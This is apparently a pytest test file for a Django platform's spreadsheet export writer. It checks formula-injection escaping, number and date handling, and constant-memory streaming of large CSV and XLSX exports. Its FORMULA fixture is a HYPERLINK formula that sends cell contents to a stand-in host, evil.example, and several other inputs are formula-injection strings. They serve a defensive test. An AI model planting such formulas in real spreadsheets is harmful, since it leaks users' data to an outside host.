"""The one export writer (safety_platform/exports.py): formula escaping, numbers kept, constant memory."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import itertools
import tracemalloc
from collections.abc import Callable, Iterator
from decimal import Decimal
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from safety_platform import exports

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'


def _heap_peak(fn: Callable[[], Any]) -> int:
    tracemalloc.start()
    try:
        fn()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+86 0597-2345678", "'+86 0597-2345678"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("龙岩市东城化工有限公司", "龙岩市东城化工有限公司"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (Decimal("-5.50"), Decimal("-5.50")),
        (-0.5, -0.5),
        (None, None),
        (True, True),
    ],
)
def test_only_text_a_spreadsheet_would_run_is_escaped(value: Any, written: Any) -> None:
    assert exports.escape_cell(value) == written
    if isinstance(written, str):
        assert exports.unescape_cell(written) == value


def test_csv_has_a_bom_escapes_text_and_keeps_negative_numbers_as_numbers() -> None:
    body = b"".join(
        exports.csv_chunks(["名称", "分数", "变化"], [(FORMULA, -5, "-5"), ("新罗区", Decimal("-2.5"), None)])
    )
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows == [["名称", "分数", "变化"], ["'" + FORMULA, "-5", "'-5"], ["新罗区", "-2.5", ""]]


def test_xlsx_keeps_numbers_dates_and_text_apart() -> None:
    aware = dt.datetime(2026, 12, 3, 8, 30, tzinfo=dt.UTC)
    sheet = exports.Sheet(
        "信用/等级:[导出]",  # characters Excel refuses in a sheet title are dropped
        [
            ["名称", "分数", "时间", "日期"],
            [FORMULA, -5, aware, dt.date(2026, 12, 3)],
            ["bad\x01char", Decimal("-2.5")],
        ],
    )
    with exports.xlsx_file([sheet, exports.Sheet("信用/等级:[导出]", [["again"]])]) as file:
        book = load_workbook(file)
    assert book.sheetnames == ["信用等级导出", "信用等级导出_2"]
    _header, first, second = book.worksheets[0].iter_rows()
    assert first[0].value == "'" + FORMULA and first[0].data_type == "s"  # text, never a formula
    assert first[1].value == -5 and first[1].data_type == "n"
    assert first[2].value == dt.datetime(2026, 12, 3, 16, 30)  # Excel has no zones: the platform's local time
    assert first[3].value.date() == dt.date(2026, 12, 3)
    assert second[0].value == "badchar" and second[1].value == -2.5


def test_an_empty_export_is_still_a_workbook() -> None:
    with exports.xlsx_file([]) as file:
        assert load_workbook(file).sheetnames == ["Sheet"]


def test_xlsx_of_50000_rows_is_written_in_constant_memory() -> None:
    """Measured here (tracemalloc): written to a temporary file 0.50 MB at 10,000 rows and at 50,000 alike; the
    same rows through openpyxl's workbook saved into memory (as the exports did before) 1.8 MB, growing with them."""

    def rows() -> Iterator[tuple[str]]:
        for i in range(50_000):
            yield (hashlib.md5(str(i).encode()).hexdigest(),)  # incompressible text, like names and addresses

    exports.xlsx_file([exports.Sheet("warm-up", [["x"]])]).close()  # imports outside the measurement

    def streamed() -> None:
        exports.xlsx_file([exports.Sheet("rows", itertools.chain([["hash"]], rows()))]).close()

    def whole() -> None:
        workbook = Workbook(write_only=True)
        sheet = workbook.create_sheet("rows")
        for row in rows():
            sheet.append(row)
        buffer = io.BytesIO()
        workbook.save(buffer)

    assert _heap_peak(streamed) < 1_000_000 < _heap_peak(whole)


@pytest.mark.django_db
def test_enterprise_csv_export_of_50000_rows_streams_in_constant_memory_and_queries(
    client: Any, users: dict[str, Any], org: Any
) -> None:
    """Measured here (tracemalloc, SQLite and PostgreSQL alike): the export as served peaks at ~1.3 MB (one 2,000-row
    chunk of the query and a 64 KB buffer); the same file held whole peaks at ~40 MB and grows with the rows."""
    from enterprises.models import Enterprise

    jurisdiction, industry = org.jurisdiction("新罗区/东城街道"), org.industry("C2614")
    Enterprise.objects.bulk_create(
        Enterprise(
            credit_code=f"91350800{i:010d}",
            name=f"龙岩市第{i}号安全生产示范有限责任公司",
            legal_representative="张三",
            address=f"福建省龙岩市新罗区东城街道第{i}号",
            jurisdiction=jurisdiction,
            industry=industry,
            employees=i % 500,
        )
        for i in range(50_000)
    )
    client.force_login(users["committee"])
    url = reverse("enterprises:export") + "?format=csv"
    client.get(url).getvalue()  # warm-up: imports, translations, session

    lines = 0

    def streamed() -> None:
        nonlocal lines
        for chunk in client.get(url).streaming_content:
            lines += chunk.count(b"\n")

    with CaptureQueriesContext(connection) as queries:
        streamed_peak = _heap_peak(streamed)
    whole_peak = _heap_peak(lambda: client.get(url).getvalue())

    assert lines == 1 + Enterprise.objects.count() >= 50_001
    assert len(queries) <= 8  # the same handful as for 30 rows (tests/enterprises/test_import_export.py)
    assert streamed_peak < 5_000_000 < whole_peak, (streamed_peak, whole_peak)


def test_csv_chunks_of_rows_escaped_by_the_caller_are_written_as_they_are_in_pieces_of_about_64_kb() -> None:
    """`escaped=True`: the caller escaped the text (the credit feeds' CSV rows); batches of rows, ~64 KB pieces."""
    rows = [(i, exports.escape_text(f"={i}"), "龙岩" * 20, None) for i in range(5_000)]
    chunks = list(exports.csv_chunks(["序号", "公式", "名称", "空"], iter(rows), escaped=True))
    sizes = [len(c.decode("utf-8")) for c in chunks]  # the buffer is measured in characters
    assert len(sizes) > 3 and all(exports.CSV_FLUSH_BYTES <= n < 2 * exports.CSV_FLUSH_BYTES for n in sizes[:-1])
    header, *written = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8-sig"))))
    assert header == ["序号", "公式", "名称", "空"]
    assert written == [[str(i), f"'={i}", "龙岩" * 20, ""] for i in range(5_000)]
    # The same rows unescaped, escaped by the writer: the same file.
    plain = [(i, f"={i}", "龙岩" * 20, None) for i in range(5_000)]
    assert b"".join(exports.csv_chunks(["序号", "公式", "名称", "空"], plain)) == b"".join(chunks)


@pytest.mark.parametrize("rows", [[], [()], [(None,)], [("",), ()]])
def test_csv_chunks_write_every_row_even_an_empty_one(rows: list[tuple[Any, ...]]) -> None:
    body = b"".join(exports.csv_chunks(["a"], rows, escaped=True)).decode("utf-8-sig")
    assert body.count("\r\n") == 1 + len(rows)


@pytest.mark.parametrize("text", [FORMULA, "+86", "-1", "@A1", "\t=1", "\r=1", "龙岩", "a=b", ""])
def test_escape_text_is_escape_cell_for_text(text: str) -> None:
    assert exports.escape_text(text) == exports.escape_cell(text)
